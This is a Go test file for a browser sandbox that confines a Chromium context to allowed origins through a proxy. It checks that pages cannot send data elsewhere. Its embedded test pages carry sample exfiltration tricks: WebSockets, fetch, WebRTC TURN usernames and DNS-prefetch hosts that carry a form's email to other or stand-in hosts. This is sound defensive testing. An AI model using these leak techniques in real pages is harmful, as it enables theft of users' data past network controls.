package topology

import (
	"context"
	"crypto/tls"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/go-rod/rod"
	"github.com/go-rod/rod/lib/proto"
)

// hits records the requests a server received.
type hits struct {
	mu   sync.Mutex
	seen []string
}

func (h *hits) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	h.mu.Lock()
	h.seen = append(h.seen, r.Method+" "+r.URL.RequestURI())
	h.mu.Unlock()
	http.Error(w, "no", http.StatusBadRequest)
}

func (h *hits) got() []string {
	h.mu.Lock()
	defer h.mu.Unlock()
	return append([]string(nil), h.seen...)
}

// confinedSite serves doc at / of a loopback site (its URL returned) and
// confines a context of b to it, both closed with the test.
func confinedSite(ctx context.Context, t *testing.T, b *Browser, doc string) (string, *Confined) {
	t.Helper()
	site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/" {
			http.NotFound(w, r)
			return
		}
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, doc)
	}))
	t.Cleanup(site.Close)
	c, err := b.Confine(ctx, site.URL)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = c.Close() })
	return site.URL, c
}

// TestConfined: a confined page loads from its origin, and what it sends
// elsewhere — a WebSocket from the page, from an iframe's realm and from a
// worker, each carrying the form in its URL, and a fetch — reaches nothing:
// request interception sees none of the sockets (a browser door that
// relied on it sent the form to the other origin), the proxy refuses them;
// and window.open opens no tab, which no interception would see.
func TestConfined(t *testing.T) {
	b := browserForTest(t)
	other := &hits{}
	elsewhere := httptest.NewServer(other)
	defer elsewhere.Close()
	ws := "ws" + strings.TrimPrefix(elsewhere.URL, "http")
	doc := `<!doctype html><html><body><p id="ok">served</p><script>
const leak = "?email=ana%40example.test";
const closed = [];
const watch = (s, where) => { s.onclose = () => closed.push(where); };
watch(new WebSocket("` + ws + `/page" + leak), "page");
const fr = document.createElement("iframe");
document.body.appendChild(fr);
watch(new fr.contentWindow.WebSocket("` + ws + `/iframe" + leak), "iframe");
const w = new Worker(URL.createObjectURL(new Blob(['const s = new WebSocket("` + ws + `/worker' + leak + '"); s.onclose = () => postMessage("worker");'], {type: "text/javascript"})));
w.onmessage = (e) => closed.push(e.data);
fetch("` + elsewhere.URL + `/fetch" + leak, {method: "POST", body: "x", mode: "no-cors"}).finally(() => closed.push("fetch")).catch(() => {});
window.allClosed = () => new Promise((done) => { const t = setInterval(() => { if (closed.length === 4) { clearInterval(t); done(closed.slice().sort().join(",")); } }, 20); });
</script></body></html>`
	ctx, cancel := context.WithTimeout(t.Context(), 30*time.Second)
	defer cancel()
	site, c := confinedSite(ctx, t, b, doc)
	page, err := c.OpenPage(ctx, site+"/", PageOptions{})
	if err != nil {
		t.Fatal(err)
	}
	p := page.Context(ctx)
	res, err := p.Eval(`() => document.getElementById("ok") ? Promise.race([window.allClosed(),
  new Promise((done) => setTimeout(() => done("after 10 s: " + closed.join(",")), 10000))]) : "the page did not load"`)
	if err != nil {
		t.Fatal(err)
	}
	if got := res.Value.Str(); got != "fetch,iframe,page,worker" {
		t.Errorf("what failed in the page: %q, want the fetch and the three sockets", got)
	}
	if got := other.got(); len(got) != 0 {
		t.Errorf("the other origin received %v, want nothing", got)
	}
	if res, err := p.Eval(`() => window.open("/elsewhere") === null`); err != nil || !res.Value.Bool() {
		t.Errorf("window.open in a confined tab: %v, %v; want null, no tab", res, err)
	}
	host := strings.TrimPrefix(elsewhere.URL, "http://")
	refused := c.Refused()
	if !slices.Contains(refused, "CONNECT "+host) || !slices.ContainsFunc(refused, func(r string) bool { return strings.HasPrefix(r, "POST "+elsewhere.URL+"/fetch?") }) {
		t.Errorf("Refused() = %q, want the sockets' CONNECT %s and the fetch", refused, host)
	}
	if err := c.Close(); err != nil {
		t.Errorf("Close: %v", err)
	}
	if _, err := page.Context(ctx).Timeout(5 * time.Second).Eval(`() => 1`); err == nil {
		t.Error("the page still answers once its context is closed")
	}
	if err := c.Close(); err != nil {
		t.Errorf("Close again: %v, want nothing done", err)
	}
}

// Confine needs origins, each an origin.
func TestConfineBadOrigins(t *testing.T) {
	b := browserForTest(t)
	for _, origins := range [][]string{nil, {"ftp://127.0.0.1"}, {"http://127.0.0.1/contact"}, {"http://127.0.0.1?x=1"}, {"127.0.0.1:80"}, {"http://"}, {"http://u:p@127.0.0.1"}, {"http://::0/"}} {
		t.Run(strings.Join(origins, " "), func(t *testing.T) {
			c, err := b.Confine(t.Context(), origins...)
			if !errors.Is(err, ErrNoOrigin) {
				t.Errorf("Confine(%q) = %v, want ErrNoOrigin", origins, err)
			}
			if c != nil {
				_ = c.Close()
			}
		})
	}
	closed := &Browser{closed: true}
	if _, err := closed.Confine(t.Context(), "http://127.0.0.1"); !errors.Is(err, ErrBrowserClosed) {
		t.Errorf("Confine on a closed browser = %v, want ErrBrowserClosed", err)
	}
}

// The proxy itself, as a browser uses it: plain requests to an http
// origin, a tunnel to an https origin only, a WebSocket upgrade never, and
// nothing once closed.
func TestConfineProxy(t *testing.T) {
	plain := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "http://elsewhere.test/", http.StatusFound)
	}))
	defer plain.Close()
	secure := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, "secure") }))
	defer secure.Close()
	other := &hits{}
	elsewhere := httptest.NewServer(other)
	defer elsewhere.Close()

	p, err := newConfineProxy([]string{plain.URL, secure.URL})
	if err != nil {
		t.Fatal(err)
	}
	proxyURL, _ := url.Parse("http://" + p.addr())
	client := &http.Client{
		Transport: &http.Transport{Proxy: http.ProxyURL(proxyURL), TLSClientConfig: &tls.Config{InsecureSkipVerify: true}},
		Timeout:   10 * time.Second,
		// A redirect is the page's to follow, not the proxy's.
		CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse },
	}
	get := func(u string, hdr ...string) (int, string, error) {
		req, _ := http.NewRequest(http.MethodGet, u, nil)
		for i := 0; i+1 < len(hdr); i += 2 {
			req.Header.Set(hdr[i], hdr[i+1])
		}
		resp, err := client.Do(req)
		if err != nil {
			return 0, "", err
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		return resp.StatusCode, string(b), nil
	}
	if code, _, err := get(plain.URL + "/a"); err != nil || code != http.StatusFound {
		t.Errorf("GET on the http origin: %d, %v; want its redirect, answered as it is", code, err)
	}
	if code, body, err := get(secure.URL + "/b"); err != nil || code != http.StatusOK || body != "secure" {
		t.Errorf("GET on the https origin through a tunnel: %d %q, %v", code, body, err)
	}
	if code, _, err := get(elsewhere.URL + "/c"); err != nil || code != http.StatusForbidden {
		t.Errorf("GET on another origin: %d, %v; want 403", code, err)
	}
	if code, _, err := get(plain.URL+"/socket", "Connection", "Upgrade", "Upgrade", "websocket"); err != nil || code != http.StatusForbidden {
		t.Errorf("a WebSocket upgrade on the http origin: %d, %v; want 403", code, err)
	}
	if got := other.got(); len(got) != 0 {
		t.Errorf("the other origin received %v", got)
	}
	want := []string{"GET " + elsewhere.URL + "/c", "GET " + plain.URL + "/socket"}
	p.mu.Lock()
	got := append([]string(nil), p.refused...)
	p.mu.Unlock()
	if !slices.Equal(got, want) {
		t.Errorf("refused %q, want %q", got, want)
	}
	p.close()
	if _, _, err := get(plain.URL + "/a"); err == nil {
		t.Error("the proxy still serves once closed")
	}
}

// WebRTC's UDP goes past any proxy: a page's peer connection, from its own
// realm and an iframe's, sent its STUN and TURN requests (a TURN username
// carrying the form) to a UDP server of the machine — eight packets in a
// confined tab without the guard. With it the page cannot make one.
func TestConfinedWebRTC(t *testing.T) {
	b := browserForTest(t)
	udp, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer udp.Close()
	var packets atomic.Int32
	go func() {
		buf := make([]byte, 2048)
		for {
			if _, _, err := udp.ReadFrom(buf); err != nil {
				return
			}
			packets.Add(1)
		}
	}()
	port := udp.LocalAddr().(*net.UDPAddr).Port
	doc := fmt.Sprintf(`<!doctype html><html><body><script>
const servers = {iceServers: [{urls: "stun:127.0.0.1:%[1]d"}, {urls: "turn:127.0.0.1:%[1]d", username: "ana@example.test", credential: "x"}]};
const fr = document.createElement("iframe");
document.body.appendChild(fr);
window.made = [];
for (const [where, RTC] of [["page", window.RTCPeerConnection], ["iframe", fr.contentWindow.RTCPeerConnection]]) {
  try {
    const pc = new RTC(servers);
    pc.createDataChannel("form");
    pc.createOffer().then((o) => pc.setLocalDescription(o));
    window.made.push(where);
  } catch (e) {}
}
</script></body></html>`, port)
	ctx, cancel := context.WithTimeout(t.Context(), 30*time.Second)
	defer cancel()
	site, c := confinedSite(ctx, t, b, doc)
	for _, open := range []struct {
		name string
		page func() (*rod.Page, error)
	}{
		{"OpenPage", func() (*rod.Page, error) { return c.OpenPage(ctx, site+"/", PageOptions{}) }},
		{"NewPage", func() (*rod.Page, error) {
			p, err := c.NewPage(ctx)
			if err == nil {
				err = p.Context(ctx).Navigate(site + "/")
			}
			return p, err
		}},
	} {
		t.Run(open.name, func(t *testing.T) {
			p, err := open.page()
			if err != nil {
				t.Fatal(err)
			}
			defer p.Context(context.Background()).Timeout(5 * time.Second).Close()
			res, err := p.Context(ctx).Eval(`() => new Promise((done) => setTimeout(() => done(window.made.join(",")), 1500))`)
			if err != nil {
				t.Fatal(err)
			}
			if got := res.Value.Str(); got != "" {
				t.Errorf("the page made peer connections in %q, want none", got)
			}
			if n := packets.Load(); n != 0 {
				t.Errorf("the UDP server received %d packets, want none", n)
			}
		})
	}
}

// A confined tab keeps what its page opens: a link whose target is a new
// tab, or the page's <base target>, clicked by a script, opens in the tab
// itself (a new tab would be past the tab's interception), and so does a
// form submitted under the base's target.
func TestConfinedKeepsLinksAndFormsInTheTab(t *testing.T) {
	b := browserForTest(t)
	for _, tc := range []struct{ name, doc, to string }{
		{"a link to a new tab", `<a id="go" href="/next" target="_blank">Next</a><script>document.getElementById("go").click()</script>`, "/next"},
		{"a link under the base's target", `<base target="_blank"><a id="go" href="/based">Next</a><script>document.getElementById("go").click()</script>`, "/based"},
		{"a form under the base's target", `<base target="_blank"><form id="f" action="/sent" method="get"><input name="q" value="x"></form><script>document.getElementById("f").requestSubmit()</script>`, "/sent?q=x"},
		{"a form whose submitter has a formtarget", `<form id="f" action="/sent" method="get"><input name="q" value="x"><button id="s" formtarget="_blank">Go</button></form><script>document.getElementById("f").requestSubmit(document.getElementById("s"))</script>`, "/sent?q=x"},
		{"a form whose own submit listener sets its target back", `<form id="f" action="/sent" method="get" target="_blank"><input name="q" value="x"></form><script>const f=document.getElementById("f");f.addEventListener("submit",()=>f.target="_blank");f.requestSubmit()</script>`, "/"},
		{"a link whose own click listener sets its target back", `<a id="go" href="/next" target="_blank">Next</a><script>const a=document.getElementById("go");a.addEventListener("click",()=>a.target="_blank");a.click()</script>`, "/"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			ctx, cancel := context.WithTimeout(t.Context(), 30*time.Second)
			defer cancel()
			site, c := confinedSite(ctx, t, b, "<!doctype html><html><head>"+tc.doc+"</head></html>")
			page, err := c.NewPage(ctx)
			if err != nil {
				t.Fatal(err)
			}
			p := page.Context(ctx)
			wait := p.WaitNavigation(proto.PageLifecycleEventNameLoad)
			if err := p.Navigate(site + "/"); err != nil {
				t.Fatal(err)
			}
			wait()
			deadline := time.Now().Add(5 * time.Second)
			var at string
			for time.Now().Before(deadline) {
				info, err := p.Info()
				if err != nil {
					t.Fatal(err)
				}
				if at = info.URL; at == site+tc.to {
					break
				}
				time.Sleep(50 * time.Millisecond)
			}
			if at != site+tc.to {
				t.Errorf("the tab is at %s, want %s: what the page opened went elsewhere", at, site+tc.to)
			}
			if tc.to == "/" {
				time.Sleep(time.Second) // what the page opens, it opens after its load
			}
			targets, err := proto.TargetGetTargets{}.Call(b.Rod())
			if err != nil {
				t.Fatal(err)
			}
			for _, ti := range targets.TargetInfos {
				if ti.OpenerID == page.TargetID {
					t.Errorf("the page opened a tab of its own: %s", ti.URL)
				}
			}
		})
	}
}

// netLogHosts reads a Chromium NetLog (a file --log-net-log wrote, closed
// or cut off when the browser was killed) and returns every host a DNS
// transaction or a resolver job was started for.
func netLogHosts(t *testing.T, path string) []string {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	var log struct {
		Constants struct {
			EventTypes map[string]int `json:"logEventTypes"`
		} `json:"constants"`
		Events []struct {
			Type   int `json:"type"`
			Params struct {
				Host     string `json:"host"`
				Hostname string `json:"hostname"`
			} `json:"params"`
		} `json:"events"`
	}
	if err := json.Unmarshal(data, &log); err != nil {
		// Cut off: the events list was never closed.
		cut := strings.TrimRight(strings.TrimSpace(string(data)), ",") + "]}"
		if err2 := json.Unmarshal([]byte(cut), &log); err2 != nil {
			t.Fatalf("reading the NetLog: %v", err)
		}
	}
	job, tx := log.Constants.EventTypes["HOST_RESOLVER_MANAGER_JOB"], log.Constants.EventTypes["DNS_TRANSACTION"]
	if job == 0 || tx == 0 {
		t.Fatalf("the NetLog names no resolver event types (job %d, transaction %d)", job, tx)
	}
	var hosts []string
	for _, e := range log.Events {
		switch e.Type {
		case job:
			hosts = append(hosts, e.Params.Host)
		case tx:
			hosts = append(hosts, e.Params.Hostname)
		}
	}
	return hosts
}

// A confined tab resolves no host of the page's: a DNS query is a way out
// past any proxy (data in a host name reaches the name's server), and a
// page names hosts by dns-prefetch, preconnect, prefetch, subresources
// and script. Chromium, with the context's proxy, leaves every name to the
// proxy, which resolves none it refuses. Measured in Chromium's own NetLog,
// on a browser launched without Offline (whose resolver rules would hide
// the question).
func TestConfinedResolvesNoPageHost(t *testing.T) {
	needChromium(t)
	netLog := filepath.Join(t.TempDir(), "netlog.json")
	b, err := NewBrowser(t.Context(), BrowserOptions{netLog: netLog})
	if err != nil {
		t.Fatal(err)
	}
	defer b.Close()
	page := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, `<!doctype html><html><head>
<link rel="dns-prefetch" href="//dnsprefetch.leak.example">
<link rel="preconnect" href="https://preconnect.leak.example">
<link rel="prefetch" href="https://prefetch.leak.example/x">
</head><body><a href="https://anchor.leak.example/">a link</a>
<img src="https://img.leak.example/i.png">
<script>fetch("https://fetch.leak.example/").catch(() => {}); new Image().src = "http://script.leak.example/x";</script>
</body></html>`)
	}))
	defer page.Close()
	c, err := b.Confine(t.Context(), page.URL)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := c.OpenPage(t.Context(), page.URL+"/", PageOptions{}); err != nil {
		t.Fatal(err)
	}
	// The page's requests were made, and refused by the proxy.
	deadline := time.Now().Add(10 * time.Second)
	for len(c.Refused()) < 3 && time.Now().Before(deadline) {
		time.Sleep(50 * time.Millisecond)
	}
	if len(c.Refused()) < 3 {
		t.Fatalf("the proxy refused %v, want the page's requests to other hosts", c.Refused())
	}
	c.Close()
	b.Close() // the NetLog is complete once the browser is gone
	var leaked []string
	for _, h := range netLogHosts(t, netLog) {
		if strings.Contains(h, "leak.example") {
			leaked = append(leaked, h)
		}
	}
	if len(leaked) > 0 {
		t.Errorf("Chromium resolved the page's hosts itself: %v", leaked)
	}
}
